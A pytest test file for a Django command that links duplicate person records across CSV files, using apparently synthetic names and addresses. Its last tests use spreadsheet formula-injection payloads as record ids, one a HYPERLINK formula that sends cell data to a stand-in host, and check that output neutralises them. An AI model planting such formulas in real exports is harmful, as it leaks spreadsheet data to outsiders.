"""The link_people command: CSV in, pairs judged the same person out, clear errors, no database."""

import csv
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

HEADER = "record_id,given_name,surname,date_of_birth,address_1,address_2,town,postcode,phone\n"
PEOPLE_A = HEADER + (
    "a1,Margaret,Smith,19800503,12 Pinkerton Circuit,,Worcester,WR5 1AA,07700 900123\n"
    "a2,John,Jones,1971-11-02,4 Church Lane,,Hereford,HR1 2AB,\n"
    "a3,Peggy,Smyth,1980-03-05,12 Pinkerton Cct,,Worcester,WR51AA,\n"
)
PEOPLE_B = HEADER + (
    "b1,Mary,Brown,19900120,9 Mill Road,,Shrewsbury,SY1 1AA,\nb2,Jon,Jones,19711102,4 Church Ln,,Hereford,HR1 2AB,\n"
)


def run(tmp_path, *files: str, **options) -> tuple[list[dict], str, str]:
    """Write the CSV texts to files, run the command, return the output rows, stdout and stderr."""
    paths = []
    for number, text in enumerate(files):
        path = tmp_path / f"people_{number}.csv"
        path.write_text(text, encoding="utf-8")
        paths.append(str(path))
    out = tmp_path / "matches.csv"
    stdout, stderr = StringIO(), StringIO()
    call_command("link_people", *paths, out=str(out), stdout=stdout, stderr=stderr, **options)
    with open(out, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle)), stdout.getvalue(), stderr.getvalue()


def test_one_file_finds_duplicates_within_it(tmp_path):
    """With one file, each duplicate pair is written once with its score to four decimals."""
    rows, stdout, _ = run(tmp_path, PEOPLE_A)
    assert [(r["record_id_a"], r["record_id_b"]) for r in rows] == [("a1", "a3")]
    assert len(rows[0]["score"].split(".")[1]) == 4
    assert stdout.startswith("Read 3 records from people_0.csv; wrote 1 pairs to ")
    assert stdout.count("\n") == 1


def test_two_files_link_b_to_a(tmp_path):
    """With two files, records of B are linked to records of A."""
    rows, stdout, _ = run(tmp_path, PEOPLE_A, PEOPLE_B)
    assert [(r["record_id_a"], r["record_id_b"]) for r in rows] == [("a2", "b2")]
    assert "3 records from people_0.csv and 2 from people_1.csv" in stdout


def test_threshold_option(tmp_path):
    """A threshold of 1 writes only the header."""
    rows, _, _ = run(tmp_path, PEOPLE_A, threshold=1.0)
    assert rows == []


def test_missing_column_is_a_clear_error(tmp_path):
    """A file without a required column is refused, naming the file, the line and the column."""
    with pytest.raises(CommandError, match=r"people_0\.csv, line 1: missing column\(s\) town"):
        run(tmp_path, PEOPLE_A.replace(",town,", ",city,"))


def test_phone_column_is_optional(tmp_path):
    """Files without a phone column are read."""
    text = "\n".join(line.rsplit(",", 1)[0] for line in PEOPLE_A.splitlines()) + "\n"
    rows, _, _ = run(tmp_path, text)
    assert [(r["record_id_a"], r["record_id_b"]) for r in rows] == [("a1", "a3")]


def test_bad_date_is_read_as_missing_with_a_warning(tmp_path):
    """A date that is not a date is treated as missing, and stderr names its line and counts them."""
    rows, _, stderr = run(tmp_path, PEOPLE_A.replace("19800503", "19801345"))
    assert "people_0.csv, line 2: date_of_birth '19801345' is not a date" in stderr
    assert "1 bad date(s) of birth read as missing, lines 2" in stderr
    assert [(r["record_id_a"], r["record_id_b"]) for r in rows] == [("a1", "a3")]


def test_blank_or_repeated_record_id_is_an_error(tmp_path):
    """Every record needs its own id; the line is named."""
    with pytest.raises(CommandError, match=r"line 4: record_id 'a1' already on line 2"):
        run(tmp_path, PEOPLE_A.replace("a3,", "a1,"))
    with pytest.raises(CommandError, match=r"line 3: record_id is blank"):
        run(tmp_path, PEOPLE_A.replace("a2,", ","))


def test_missing_file_and_bad_threshold_are_errors(tmp_path):
    """A file that cannot be opened, or a threshold outside 0..1, is a CommandError, not a traceback."""
    with pytest.raises(CommandError, match="cannot open"):
        call_command("link_people", str(tmp_path / "nope.csv"), out=str(tmp_path / "m.csv"))
    with pytest.raises(CommandError, match="--threshold"):
        run(tmp_path, PEOPLE_A, threshold=1.5)


@pytest.mark.parametrize("record_id", ['=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(1)", "+1+1", "-2+3"])
def test_record_ids_a_spreadsheet_would_run_are_written_as_text(tmp_path, record_id):
    """A record id that a spreadsheet would take as a formula comes out with a leading apostrophe."""
    quoted = '"' + record_id.replace('"', '""') + '"'
    rows, _, _ = run(tmp_path, PEOPLE_A.replace("a1,", f"{quoted},", 1))
    assert [r["record_id_a"] for r in rows] == ["'" + record_id]


def test_safe_cell_neutralises_formulas_and_leaves_ordinary_values_alone():
    """Formula starts (a tab or carriage return first too) become text; plain text and numbers do not."""
    from core.csv import safe_cell

    assert [safe_cell(v) for v in ("\t=1", "\r=1", "=1")] == ["'\t=1", "'\r=1", "'=1"]
    ordinary = ["a1", "O'Neil", "12-3", 5, -5, 0.5, None]
    assert [safe_cell(v) for v in ordinary] == ordinary
